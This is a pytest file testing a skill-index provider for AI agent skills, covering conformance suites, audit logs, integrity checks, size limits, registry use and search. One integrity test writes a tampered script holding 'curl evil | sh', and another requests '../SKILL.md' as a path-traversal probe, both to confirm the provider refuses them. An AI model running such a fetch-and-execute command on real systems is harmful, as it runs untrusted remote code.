"""The agentskills-core provider: the SDK's conformance suites, and what the index adds."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

pytest.importorskip("agentskills_core", reason="agentskills-core needs Python 3.12 or newer "
                    "and the agentskills extra")

from agentskills_core import (
    AgentSkillsError,
    ResourceNotFoundError,
    SkillNotFoundError,
    SkillRegistry,
)
from agentskills_testing import (
    ASSET_BYTES,
    ASSET_NAME,
    REFERENCE_BYTES,
    REFERENCE_NAME,
    SCRIPT_BYTES,
    SCRIPT_NAME,
    SKILL_ID,
    ContentLimitConformanceSuite,
    ProviderConformanceSuite,
)

from skillindex.agentskills import ContentTooLargeError, IndexProvider, IntegrityRefusedError
from skillindex.model import Validation
from tests.conftest import OpenIndex, write_skill


@pytest.fixture
def db_backend() -> str:
    # The provider adds no SQL of its own; the index's queries are tested on both backends.
    return "sqlite"


def contract_skill(root: Path) -> Path:
    """The one skill the conformance suites expect, as files on disk."""
    skill = write_skill(root, SKILL_ID, body="# Conformance\n\nRead the notes first.\n",
                        description="The skill the provider conformance suite reads.")
    for folder, name, data in (("references", REFERENCE_NAME, REFERENCE_BYTES),
                               ("scripts", SCRIPT_NAME, SCRIPT_BYTES),
                               ("assets", ASSET_NAME, ASSET_BYTES)):
        (skill / folder).mkdir()
        (skill / folder / name).write_bytes(data)
    return skill


def indexed_provider(tmp_path: Path, open_index: OpenIndex, **options: object) -> IndexProvider:
    root = tmp_path / "skills"
    contract_skill(root)
    index = open_index(root, validation=Validation.LENIENT)
    index.reindex()
    return IndexProvider(index, session="conformance", **options)  # type: ignore[arg-type]


class TestIndexProvider(ProviderConformanceSuite):
    @pytest.fixture
    def provider(self, tmp_path: Path, open_index: OpenIndex) -> IndexProvider:
        return indexed_provider(tmp_path, open_index)


class TestIndexProviderLimits(ContentLimitConformanceSuite):
    @pytest.fixture
    def limited_provider(self, tmp_path: Path, open_index: OpenIndex) -> IndexProvider:
        return indexed_provider(tmp_path, open_index, max_bytes=8)


@pytest.fixture
def provider(tmp_path: Path, open_index: OpenIndex) -> IndexProvider:
    return indexed_provider(tmp_path, open_index)


@pytest.mark.asyncio
async def test_every_read_is_audited_with_the_session_and_reason(provider: IndexProvider) -> None:
    await provider.get_metadata(SKILL_ID)
    await provider.get_body(SKILL_ID)
    await provider.get_script(SKILL_ID, SCRIPT_NAME)
    with pytest.raises(ResourceNotFoundError):
        await provider.get_asset(SKILL_ID, "../SKILL.md")

    events = provider.index.audit(session="conformance")

    # Metadata comes from the index (level 1) and reads no file; the rest are disclosures.
    assert [(e.level, e.resource, e.outcome) for e in events] == [
        (2, None, "ok"), (3, f"scripts/{SCRIPT_NAME}", "ok"), (3, "assets/../SKILL.md", "refused")]
    assert {e.reason for e in events} == {"agentskills provider"}


@pytest.mark.asyncio
async def test_a_file_changed_after_indexing_is_refused_not_served(
        provider: IndexProvider, tmp_path: Path) -> None:
    script = tmp_path / "skills" / SKILL_ID / "scripts" / SCRIPT_NAME
    script.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")

    with pytest.raises(IntegrityRefusedError, match="changed"):
        await provider.get_script(SKILL_ID, SCRIPT_NAME)
    assert [e.outcome for e in provider.index.audit(session="conformance")] == ["mismatch"]


@pytest.mark.asyncio
async def test_file_access_is_lossless(provider: IndexProvider, tmp_path: Path) -> None:
    skill = tmp_path / "skills" / SKILL_ID
    (skill / "extra" / "deep").mkdir(parents=True)
    (skill / "extra" / "deep" / "data.bin").write_bytes(bytes(range(256)))
    provider.index.reindex()

    files = await provider.list_files(SKILL_ID)

    assert files == ["SKILL.md", f"assets/{ASSET_NAME}", "extra/deep/data.bin",
                     f"references/{REFERENCE_NAME}", f"scripts/{SCRIPT_NAME}"]
    for rel in files:
        assert await provider.read_file(SKILL_ID, rel) == (skill / rel).read_bytes()


@pytest.mark.asyncio
async def test_metadata_is_the_stored_frontmatter_with_a_name(
        tmp_path: Path, open_index: OpenIndex) -> None:
    root = tmp_path / "skills"
    write_skill(root, "unnamed", "description: Has no name field.\nlicense: MIT\n"
                "metadata:\n  team: docs\n")
    index = open_index(root, validation=Validation.LENIENT)
    index.reindex()
    provider = IndexProvider(index)

    assert await provider.get_metadata("unnamed") == {
        "name": "unnamed", "description": "Has no name field.", "license": "MIT",
        "metadata": {"team": "docs"}}
    assert await provider.list_resources("unnamed") == {
        "references": [], "scripts": [], "assets": []}


@pytest.mark.asyncio
async def test_only_catalog_winners_are_served(tmp_path: Path, open_index: OpenIndex) -> None:
    high, low = tmp_path / "high", tmp_path / "low"
    write_skill(high, "pdf", description="The winning one.")
    write_skill(low, "pdf", description="Shadowed.")
    write_skill(low, "broken", "name: [unclosed\n")
    index = open_index(high, low, validation=Validation.STRICT)
    index.reindex()
    provider = IndexProvider(index)

    assert await provider.discover() == ["pdf"]
    assert (await provider.get_metadata("pdf"))["description"] == "The winning one."
    with pytest.raises(SkillNotFoundError):
        await provider.get_body("broken")


@pytest.mark.asyncio
async def test_a_limit_refuses_before_reading(tmp_path: Path, open_index: OpenIndex) -> None:
    provider = indexed_provider(tmp_path, open_index, max_bytes=len(SCRIPT_BYTES))

    assert await provider.get_script(SKILL_ID, SCRIPT_NAME) == SCRIPT_BYTES
    with pytest.raises(ContentTooLargeError):
        await provider.get_reference(SKILL_ID, REFERENCE_NAME)


@pytest.mark.asyncio
async def test_registered_in_a_skill_registry(provider: IndexProvider, tmp_path: Path) -> None:
    registry = SkillRegistry()

    assert await registry.register_all(provider) == [SKILL_ID]
    catalog = await registry.get_skills_catalog()
    skill = registry.get_skill(SKILL_ID)

    assert SKILL_ID in catalog
    assert await skill.get_reference(REFERENCE_NAME) == REFERENCE_BYTES
    entry = (tmp_path / "skills" / SKILL_ID / "SKILL.md").read_bytes()
    assert hashlib.sha256(await skill.read_file("SKILL.md")).digest() == \
        hashlib.sha256(entry).digest()


@pytest.mark.asyncio
async def test_search_finds_catalog_skills_by_what_they_do(tmp_path: Path,
                                                           open_index: OpenIndex) -> None:
    root = tmp_path / "skills"
    write_skill(root, "invoice-reader", description="Reads the totals of invoices.")
    write_skill(root, "chart-maker", description="Draws charts from a table.")
    write_skill(root, "invoice-purge", "name: invoice-purge\ndescription: Deletes invoices.\n"
                "disable-model-invocation: true\n")
    index = open_index(root)
    index.reindex()
    provider = IndexProvider(index)
    found = await provider.search("what do these invoices add up to?", limit=5)
    assert [hit["skill_id"] for hit in found] == ["invoice-reader"]  # not the manual-only one
    assert found[0]["description"] == "Reads the totals of invoices."
    assert isinstance(found[0]["score"], float) and found[0]["score"] > 0
    with pytest.raises(AgentSkillsError):
        await provider.search("?!")
